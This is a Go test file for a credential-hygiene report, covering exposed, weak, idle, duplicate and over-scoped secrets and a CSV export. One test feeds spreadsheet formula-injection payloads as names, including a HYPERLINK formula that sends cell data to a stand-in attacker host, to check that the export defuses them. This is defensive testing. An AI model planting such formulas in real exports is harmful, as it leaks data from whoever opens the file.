package hygiene_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/counterfoil/counterfoil/internal/access"
	"github.com/counterfoil/counterfoil/internal/application"
	"github.com/counterfoil/counterfoil/internal/credential"
	"github.com/counterfoil/counterfoil/internal/credential/hygiene"
	"github.com/counterfoil/counterfoil/internal/credential/usage"
	"github.com/counterfoil/counterfoil/internal/db"
	"github.com/counterfoil/counterfoil/internal/dbtest"
	"github.com/counterfoil/counterfoil/internal/fault"
	"github.com/counterfoil/counterfoil/internal/roomtest"
)

const day = 24 * time.Hour

// place is an installation at a time that stands still unless the test makes it pass.
type place struct {
	*roomtest.Rooms
	now   time.Time
	apps  map[string]*application.Application
	names map[string]string // of credentials, by id
	uses  usage.Counter
}

func each(t *testing.T, test func(p *place)) {
	t.Helper()
	dbtest.EachDSN(t, func(t *testing.T, dsn string) {
		p := &place{now: time.Now().UTC().Truncate(time.Microsecond), apps: map[string]*application.Application{}, names: map[string]string{uuid.Nil.String(): "application"}}
		d := dbtest.Open(t, dsn, func() time.Time { return p.now })
		p.Rooms = roomtest.Found(t, d, filepath.Join(t.TempDir(), "root.key"))
		p.NewAPI("letters", "a", "b", "c")
		test(p)
	})
}

// add gives the application of that name, which has the scopes a, b and c, a secret.
func (p *place) add(app, name string, spec credential.Spec) (c *credential.Credential) {
	p.Helper()
	p.Write(func(tx *db.Tx) (err error) {
		if p.apps[app] == nil {
			if p.apps[app], err = application.Create(tx, &p.Operator, application.Spec{Name: app, Scopes: []string{"a", "b", "c"}}); err != nil {
				return err
			}
		}
		c, _, err = p.Credentials.AddSecret(tx, &p.Operator, p.apps[app].ID, credential.SecretSpec{Spec: spec})
		return err
	})
	p.names[c.ID.String()] = name
	return c
}

// use uses a credential and gets a token with these scopes.
func (p *place) use(c *credential.Credential, scopes ...string) {
	p.Helper()
	p.uses.Count(p.Home.ID, c.ID, usage.Use{At: p.now})
	p.Write(func(tx *db.Tx) error {
		catalogue, err := access.LoadCatalogue(tx, p.Home.ID)
		if err != nil {
			return err
		}
		numbers, err := catalogue.Numbers("", scopes)
		p.uses.Granted(p.Home.ID, c.ID, numbers, p.now)
		return err
	})
	if err := p.uses.Flush(p.Context(), p.DB); err != nil {
		p.Fatal(err)
	}
}

func (p *place) report() (found []hygiene.Finding) {
	p.Helper()
	p.Write(func(tx *db.Tx) (err error) {
		found, err = hygiene.Report(tx, &p.Operator)
		return err
	})
	return found
}

// wants fails the test unless the report is just this: problem, application and name of the credential.
func (p *place) wants(want ...string) {
	p.Helper()
	var got []string
	for _, f := range p.report() {
		got = append(got, fmt.Sprint(f.Problem, " ", f.ApplicationName, " ", p.names[f.Credential.String()]))
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		p.Errorf("after %s\n%s\nwant\n%s", p.now.Format(time.DateOnly), strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func (p *place) set(c *credential.Credential, column string, value any) {
	p.Helper()
	p.Write(func(tx *db.Tx) error {
		_, err := tx.Exec(`UPDATE credential SET `+column+` = $1 WHERE id = $2`, value, c.ID.String())
		return err
	})
}

func TestReportNamesTheGravestFirst(t *testing.T) {
	each(t, func(p *place) {
		year := p.now.Add(365 * day)
		p.add("b", "endless", credential.Spec{})
		leaked := p.add("a", "leaked", credential.Spec{ExpiresAt: year})
		p.set(leaked, "exposed_at", db.Micros(p.now))
		weak := p.add("c", "weak", credential.Spec{ExpiresAt: year})
		p.set(weak, "form", "chosen")
		p.set(weak, "score", 2)
		off := p.add("d", "off", credential.Spec{})
		p.set(off, "exposed_at", db.Micros(p.now))
		p.set(off, "enabled", false)
		p.add("e", "to come", credential.Spec{NotBefore: year})
		p.wants("exposed a leaked", "weak c weak", "never_expires b endless")
		p.Write(func(tx *db.Tx) error {
			_, err := application.SetEnabled(tx, &p.Operator, p.apps["b"].ID, false)
			return err
		})
		p.wants("exposed a leaked", "weak c weak")
		p.set(weak, "form", "imported")
		p.set(weak, "score", 4)
		p.wants("exposed a leaked", "weak c weak")
		stranger := p.Actor(access.ReadApplications)
		p.Refused("without the permission", fault.Denied, func(tx *db.Tx) error {
			_, err := hygiene.Report(tx, &stranger)
			return err
		})
	})
}

func TestIdleAndSuperfluousSecretsAreFound(t *testing.T) {
	each(t, func(p *place) {
		years := p.now.Add(2000 * day)
		never := p.add("a", "never", credential.Spec{ExpiresAt: years})
		p.now = p.now.Add(90*day - time.Minute)
		p.wants()
		p.now = p.now.Add(time.Minute)
		p.wants("idle_90_days a never")
		p.use(never)
		p.wants()
		p.add("a", "newer", credential.Spec{ExpiresAt: years})
		p.now = p.now.Add(7 * day)
		p.wants()
		p.now = p.now.Add(time.Minute)
		p.wants("two_active a never")
		// A rotation that set an end is on its way; one that waits for a first use which never comes is not.
		old := p.add("b", "old", credential.Spec{ExpiresAt: years})
		rotate := func(c *credential.Credential, r credential.Rotation) {
			p.Write(func(tx *db.Tx) error {
				next, _, _, err := p.Credentials.Rotate(tx, &p.Operator, c.Application, c.ID, 0, r)
				if err == nil {
					p.names[next.ID.String()] = "next"
				}
				return err
			})
		}
		p.now = p.now.Add(time.Second)
		rotate(old, credential.Rotation{Retire: p.now.Add(30 * day)})
		p.now = p.now.Add(8 * day)
		p.wants("two_active a never")
		waiting := p.add("c", "waiting", credential.Spec{ExpiresAt: years})
		p.now = p.now.Add(time.Second)
		rotate(waiting, credential.Rotation{OnFirstUse: true})
		p.now = p.now.Add(75 * day)
		p.use(never)
		p.now = p.now.Add(10 * day)
		p.wants("idle_90_days a newer", "idle_90_days b next", "two_active a never", "two_active c waiting")
	})
}

func TestPermissionsThatNobodyUsesAreFound(t *testing.T) {
	each(t, func(p *place) {
		year := p.now.Add(3650 * day)
		wide := p.add("app", "wide", credential.Spec{ExpiresAt: year})
		p.now = p.now.Add(time.Second)
		narrow := p.add("app", "narrow", credential.Spec{ExpiresAt: year, Scopes: []string{"a", "b"}})
		use := func() { p.use(wide, "a"); p.use(narrow, "a") }
		p.now = p.now.Add(100 * day)
		use()
		p.wants("two_active app wide") // what was before the first note is not known
		p.now = p.now.Add(89 * day)
		use()
		p.wants("two_active app wide")
		p.now = p.now.Add(day)
		use()
		p.use(wide, "c")
		if err := usage.Forget(p.Context(), p.DB); err != nil {
			p.Fatal(err)
		}
		p.wants("two_active app wide", "over_scoped app application", "over_scoped app narrow")
		for _, f := range p.report() {
			if f.Problem == hygiene.OverScoped && !strings.HasSuffix(f.Detail, "90 days: b") {
				p.Errorf("%s", f.Detail)
			}
		}
		p.use(narrow, "b")
		p.wants("two_active app wide")
	})
}

func TestSpreadsheetRunsNothingOfAReport(t *testing.T) {
	names := []string{`=HYPERLINK("https://evil.example/?"&A1,"x")`, "+1", "-1+1", "@SUM(1)", "\tx", "\rx", "\n=1", " =1", "\u00a0=1", "＝1", "plain, \"quoted\"", "a=b", ""}
	var findings []hygiene.Finding
	for _, name := range names {
		findings = append(findings, hygiene.Finding{Application: uuid.New(), ApplicationName: name, Detail: name, Problem: hygiene.Weak})
	}
	var text bytes.Buffer
	if err := hygiene.WriteCSV(&text, findings); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&text).ReadAll()
	if err != nil || len(rows) != len(names)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for i, row := range rows[1:] {
		for _, cell := range []string{row[1], row[6]} {
			if harmless := i >= len(names)-3; strings.HasPrefix(cell, "'") == harmless {
				t.Errorf("%q became %q", names[i], cell)
			}
		}
	}
}

// Counting what tokens hold is on the way of every token.
func BenchmarkTheSameGrantAgain(b *testing.B) {
	var u usage.Counter
	environment, id, now := uuid.New(), uuid.New(), time.Now()
	permissions := []uint32{1, 2, 3, 4, 5, 6, 7, 8}
	for b.Loop() {
		u.Granted(environment, id, permissions, now)
	}
}
